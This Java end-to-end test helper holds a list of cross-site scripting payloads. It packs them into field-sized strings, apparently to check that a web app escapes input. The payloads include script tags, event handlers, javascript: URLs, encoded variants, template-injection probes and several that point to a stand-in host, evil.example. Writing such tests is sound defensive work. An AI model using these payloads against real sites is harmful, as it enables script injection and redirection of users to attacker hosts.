package io.outturn.e2e;

import java.util.ArrayList;
import java.util.List;

/** Texts that would run as a script where somebody forgot to escape them. */
final class Xss {
  private static final List<String> PAYLOADS =
      List.of(
          "<script>alert(1)</script>",
          "<ScRiPt>alert(1)</sCrIpT>",
          "<img src=x onerror=alert(1)>",
          "\"><img src=x onerror=alert(1)>",
          "'><img src=x onerror=alert(1)>",
          "\" onfocus=alert(1) autofocus x=\"",
          "' onfocus=alert(1) autofocus x='",
          "</textarea><svg/onload=alert(1)>",
          "</title><script>alert(1)</script>",
          "</option></select><script>alert(1)</script>",
          "</style><script>alert(1)</script>",
          "--><script>alert(1)</script>",
          "]]><script>alert(1)</script>",
          "<svg><script>alert(1)</script></svg>",
          "<svg/onload=alert(1)>",
          "<body onload=alert(1)>",
          "<iframe src=javascript:alert(1)>",
          "<iframe srcdoc='<script>alert(1)</script>'>",
          "<object data=javascript:alert(1)>",
          "<a href=javascript:alert(1)>x</a>",
          "javascript:alert(1)",
          "<form action=//evil.example><button>x",
          "<base href=//evil.example/>",
          "<link rel=stylesheet href=//evil.example/x>",
          "<meta http-equiv=refresh content=0;url=//evil.example>",
          "<style>@import'//evil.example/x'</style>",
          "<div style=background:url(//evil.example/x)>",
          "<details open ontoggle=alert(1)>",
          "<video><source onerror=alert(1)>",
          "<input onfocus=alert(1) autofocus>",
          "<marquee onstart=alert(1)>",
          "<math><mi xlink:href=javascript:alert(1)>",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&#60;script&#62;alert(1)&#60;/script&#62;",
          "\\u003cscript\\u003ealert(1)",
          "+ADw-script+AD4-alert(1)",
          "%3Cscript%3Ealert(1)%3C/script%3E",
          "[[${7*7}]] ${7*7} #{x} *{x} ~{x}",
          "__${7*7}__::x",
          "{{constructor.constructor('alert(1)')()}}",
          "\u202E<script>alert(1)</script>\u2066");

  /** What most fields hold. */
  private static final int LONGEST = 180;

  private Xss() {}

  /** All of them, as many to a text as a field holds. */
  static List<String> texts() {
    var texts = new ArrayList<String>();
    var text = new StringBuilder();
    for (var payload : PAYLOADS) {
      if (text.length() + payload.length() >= LONGEST) {
        texts.add(text.toString());
        text.setLength(0);
      }
      text.append(payload);
    }
    texts.add(text.toString());
    return texts;
  }
}
